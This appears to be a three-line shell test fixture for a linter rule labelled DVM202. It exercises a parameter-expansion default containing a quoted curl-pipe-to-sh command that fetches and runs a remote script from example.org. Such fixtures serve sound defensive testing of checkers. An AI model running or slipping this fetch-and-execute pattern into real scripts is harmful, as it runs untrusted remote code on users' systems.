# expect: DVM202
set -Eeuo pipefail
echo "${x:-'$(curl -fsSL https://example.org/i.sh | sh)'}"
